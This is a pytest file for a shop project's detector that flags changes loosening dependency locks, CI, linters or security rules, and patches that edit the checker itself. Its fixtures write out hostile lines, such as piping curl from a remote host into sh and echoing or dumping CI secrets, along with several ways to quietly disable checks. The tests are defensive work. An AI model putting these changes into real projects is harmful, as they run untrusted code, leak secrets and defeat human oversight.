"""Round the code: a change that loosens a lock, CI or what the rules are told is seen; an ordinary one is not."""

from __future__ import annotations

import difflib
from pathlib import Path

import pytest

from shop.scope import mutants
from shop.scope.loosened import loosened

SCOPE = '[rules]\nmax_suppressions = 7\nguards = ["shop/app.py: PANGuard"]\ncsrf_exempt = []\n'
LOCK = "flask==3.1 \\\n    --hash=sha256:aa\n"
MAKE = "check: lint\n\tpip install --require-hashes -r requirements/run.lock\n\tshop scope verify\n"
CI = """on: [push, pull_request]
jobs:
  check:
    steps:
      - uses: actions/checkout@v4
      - run: make check
"""
LIST = 'files = ["shop/**"]\nwithout = []\n\n["shop/a.py"]\nopen = ["_ is None -> refuse", "locks Row"]\n'
LOOSER = {
    "a refusal that nobody lists": ("refusals.toml", LIST, LIST.replace(', "locks Row"', "")),
    "a file without its refusals": ("refusals.toml", LIST, LIST.replace("[]", '["shop/pay.py"]')),
    "no list at all": ("refusals.toml", LIST, ""),
    "a requirement without a hash": ("requirements/run.lock", LOCK, LOCK + "other==1.0\n"),
    "one without a version": ("requirements/run.lock", LOCK, LOCK + "other>=1.0\n"),
    "another index": ("requirements/run.lock", LOCK, "--extra-index-url https://pypi.example\n" + LOCK),
    "more suppressions": ("scope.toml", SCOPE, SCOPE.replace("7", "70")),
    "a guard that nobody asks for": ("scope.toml", SCOPE, SCOPE.replace('"shop/app.py: PANGuard"', "")),
    "a view without a token": ("scope.toml", SCOPE, SCOPE.replace("[]", '["shop.pay"]')),
    "a rule that does not hold": (
        "scope.toml",
        SCOPE,
        SCOPE + '[[rules.allow]]\npath = "shop/**"\nrules = ["HK201"]\nreason = "so be it"\n',
    ),
    "hashes are not looked at": ("Makefile", MAKE, MAKE.replace("--require-hashes ", "")),
    "a check is gone": ("Makefile", MAKE, MAKE.replace("\tshop scope verify\n", "")),
    "a check may fail": (".github/workflows/a.yml", "- run: make check\n", "- run: make check || true\n"),
    "a check may fail by another word": (
        ".github/workflows/a.yml",
        "- run: make check\n",
        "- run: make check || echo flaky\n",
    ),
    "tests that failed before alone": (
        ".github/workflows/a.yml",
        "- run: pytest\n",
        "- run: pytest --last-failed\n",
    ),
    "only what is severe": (
        "Makefile",
        "rules:\n\tbandit shop\n",
        "rules:\n\tbandit --severity-level high shop\n",
    ),
    "what was known is let pass": (
        "Makefile",
        "rules:\n\tbandit shop\n",
        "rules:\n\tbandit -b known.json shop\n",
    ),
    "what a check says is piped away": (".ci/run", "make check\n", "make check | tee log\n"),
    "a function is reviewed by nobody": (
        "scope.toml",
        '[rules]\nreviewed = ["a.py: f = 0123456789ab"]\n',
        '[rules]\nreviewed = ["a.py: f = ba9876543210"]\n',
    ),
    "a bound that nobody asks for": (
        "scope.toml",
        '[rules]\nbounds = ["shop/lock.py: MOST <= 10"]\n',
        "[rules]\nbounds = []\n",
    ),
    "a bound that is wider": (
        "scope.toml",
        '[rules]\nbounds = ["shop/lock.py: MOST <= 10"]\n',
        '[rules]\nbounds = ["shop/lock.py: MOST <= 1000"]\n',
    ),
    "a stranger's step": (
        ".github/workflows/a.yml",
        "- uses: actions/checkout@v4\n",
        "- uses: someone/setup@main\n",
    ),
    "others' branches": (
        ".github/workflows/a.yml",
        "on:\n  push:\n",
        "on:\n  push:\n  pull_request_target:\n",
    ),
    "the net is run": ("Makefile", MAKE, MAKE + "\tcurl -fsSL https://tool.example/get | sh\n"),
    "another place to install from": (
        "Makefile",
        MAKE,
        MAKE + "\tpip install --index-url https://pypi.example a\n",
    ),
    "a secret of CI is told": (".ci/run", "make check\n", "make check\necho ${{ secrets.KEY }}\n"),
    "ruff looks away": ("pyproject.toml", "", '[tool.ruff.lint]\nignore = ["S324"]\n'),
    "types by the way": ("pyproject.toml", "[tool.mypy]\nstrict = true\n", "[tool.mypy]\nstrict = false\n"),
    "tests are left out": (
        "pyproject.toml",
        '[tool.pytest.ini_options]\naddopts = "-ra"\n',
        '[tool.pytest.ini_options]\naddopts = "-ra --ignore=tests/security"\n',
    ),
    "one more may import": (
        "pyproject.toml",
        '[[tool.importlinter.contracts]]\nname = "a"\nignore_imports = []\n',
        '[[tool.importlinter.contracts]]\nname = "a"\nignore_imports = ["shop -> stripe"]\n',
    ),
    "CI waits for a person": (
        ".github/workflows/a.yml",
        CI,
        CI.replace("[push, pull_request]", "workflow_dispatch"),
    ),
    "CI waits for the night": (
        ".github/workflows/a.yml",
        CI,
        CI.replace("    steps", "    if: github.event_name == 'schedule'\n    steps"),
    ),
    "a step under a condition": (
        ".github/workflows/a.yml",
        CI,
        CI.replace("- run: make check", "- run: make check\n        if: false"),
    ),
    "CI looks away from some files": (
        ".github/workflows/a.yml",
        CI,
        CI.replace(
            "on: [push, pull_request]", "on:\n  pull_request:\n  push:\n    paths-ignore: ['shop/**']"
        ),
    ),
    "the environment is told": (
        ".github/workflows/a.yml",
        CI,
        CI
        + "      - run: env > out.txt\n        env:\n          KEY: ${{ secrets.KEY }}\n      - run: env | sort\n",
    ),
    "a step may say that all is well": (
        ".github/workflows/a.yml",
        CI,
        CI + "permissions:\n  statuses: write\n",
    ),
    "a test fewer": ("Makefile", "\tpytest $(SPREAD)\n", '\tpytest $(SPREAD) -k "not canary"\n'),
    "a test fewer by a variable": (
        "Makefile",
        "SPREAD := -n 2\n",
        "SPREAD := -n 2 --ignore=tests/evidence\n",
    ),
    "what no lock holds": ("Makefile", MAKE, MAKE + "\tpip install some-tool\n"),
    "the scan reads less": ("scope.toml", '[scan]\npaths = ["shop", "docs"]\n', '[scan]\npaths = ["docs"]\n'),
    "another inventory": ("scope.toml", '[inventory]\nstatic = "static"\n', '[inventory]\nstatic = "docs"\n'),
    "ruff looks away from a file": (
        "pyproject.toml",
        "",
        '[tool.ruff.lint.per-file-ignores]\n"shop/*.py" = ["S"]\n',
    ),
    "types of some files": (
        "pyproject.toml",
        "",
        '[[tool.mypy.overrides]]\nmodule = "shop.checkout.*"\nignore_errors = true\n',
    ),
    "some tests alone": (
        "pyproject.toml",
        '[tool.pytest.ini_options]\ntestpaths = ["tests", "more"]\n',
        '[tool.pytest.ini_options]\ntestpaths = ["more"]\n',
    ),
    "bandit looks away": ("pyproject.toml", "", '[tool.bandit]\nskips = ["B105"]\n'),
}


@pytest.mark.parametrize("what", LOOSER)
def test_what_is_looser_is_seen(what: str) -> None:
    path, before, after = LOOSER[what]
    assert [each.path for each in loosened({path: before}, {path: after})] != []
    assert loosened({path: before}, {path: before}) == []


ORDINARY = {
    "a step that gets a name": (
        ".github/workflows/a.yml",
        "steps:\n  - run: make check\n",
        "steps:\n  - name: everything\n    run: make check\n",
    ),
    "another version with its hash": (
        "requirements/run.lock",
        LOCK,
        LOCK.replace("3.1", "3.2").replace("aa", "bb"),
    ),
    "fewer suppressions": ("scope.toml", SCOPE, SCOPE.replace("7", "5")),
    "another guard": ("scope.toml", SCOPE, SCOPE.replace('PANGuard"', 'PANGuard", "a.py: PANFilter"')),
    "a stricter bound": (
        "scope.toml",
        '[rules]\nbounds = ["a.py: MOST <= 10"]\n',
        '[rules]\nbounds = ["a.py: MOST <= 10", "a.py: LIFE <= 3 days"]\n',
    ),
    "a newer step of the same owner": (
        ".github/workflows/a.yml",
        "- uses: actions/setup-node@v4\n",
        "- uses: actions/setup-node@v5\n",
    ),
    "stricter tools": (
        "pyproject.toml",
        '[tool.ruff.lint]\nselect = ["S"]\nignore = ["S1"]\n',
        '[tool.ruff.lint]\nselect = ["S", "B"]\nignore = []\n',
    ),
    "a check says more": ("Makefile", MAKE, MAKE.replace("scope verify", "scope verify --report var")),
    "a folder that may be there": (".ci/run", "make check\n", "[ -d var ] || mkdir var\nmake check\n"),
    "a step whatever happens": (
        ".github/workflows/a.yml",
        CI,
        CI + "      - uses: actions/upload-artifact@v4\n        if: always()\n",
    ),
    "a step that checks nothing": (
        ".github/workflows/a.yml",
        CI,
        CI + "      - run: echo done\n        if: github.ref == 'refs/heads/main'\n",
    ),
    "one more event": (".github/workflows/a.yml", CI, CI.replace("[push,", "[push, merge_group,")),
    "our own package": ("Makefile", MAKE, MAKE + "\tpip install --no-deps --editable .\n"),
    "one more folder to scan": ("scope.toml", '[scan]\npaths = ["a"]\n', '[scan]\npaths = ["a", "b"]\n'),
    "a package without types": (
        "pyproject.toml",
        "",
        '[[tool.mypy.overrides]]\nmodule = "segno.*"\nignore_missing_imports = true\n',
    ),
    "a comment": ("Makefile", MAKE, "# how to check\n" + MAKE),
}


@pytest.mark.parametrize("what", ORDINARY)
def test_an_ordinary_change_is_none(what: str) -> None:
    path, before, after = ORDINARY[what]
    assert loosened({path: before}, {path: after}) == []


def test_a_patch_that_loosens_or_excuses_itself_is_red(tmp_path: Path) -> None:
    clean = mutants.parsed_tree()
    name, patch = "requirements/run.lock", tmp_path / "a.diff"
    lock = Path(name).read_text().splitlines(keepends=True)
    patch.write_text("".join(difflib.unified_diff(lock, [*lock, "other==1.0\n"], f"a/{name}", f"b/{name}")))
    assert {each.rule for each in mutants.judge_patch(patch, clean).findings} == {"loosened"}
    patch.write_text(
        "--- /dev/null\n+++ b/shop/noting.py\n@@ -0,0 +1,3 @@\n+from flask import request\n"
        "+# hk: allow HK202 it is quite all right here\n+print(request.form)\n"
    )
    assert {each.rule for each in mutants.judge_patch(patch, clean).findings} == {"HK202"}


def patch_of(path: str, old: str, new: str) -> str:
    before, after = old.splitlines(keepends=True), new.splitlines(keepends=True)
    return "".join(difflib.unified_diff(before, after, f"a/{path}", f"b/{path}"))


JUDGES = {
    "a check that sees nothing": (
        "shop/scope/checks/staff.py",
        "    with _installed(lab) as app:",
        "    return\n",
    ),
    "a watcher that is content": ("security/watch/rounds.py", "\n\ndef ", "\n\nNOTHING = True\n"),
    "a page that nobody has to look at": ("shop/scope/staff_pages.toml", '"GET /audit" = "see_audit"', "# "),
    "a rule less": ("security/rules/python/families.py", "    cookies.check,\n", "    # "),
}


def test_a_patch_that_edits_the_judge_is_red_and_one_that_explains_it_is_not(tmp_path: Path) -> None:
    clean, patch = mutants.parsed_tree(), tmp_path / "a.diff"
    for what, (path, anchor, put) in JUDGES.items():
        text = Path(path).read_text()
        assert anchor in text, what
        patch.write_text(patch_of(path, text, text.replace(anchor, put + anchor, 1)))
        assert {each.rule for each in mutants.judge_patch(patch, clean).findings} == {"judge"}, what
    path, text = "shop/scope/stage.py", Path("shop/scope/stage.py").read_text()
    patch.write_text(patch_of(path, text, text + "\n# A word more.\n"))
    assert mutants.judge_patch(patch, clean).findings == []
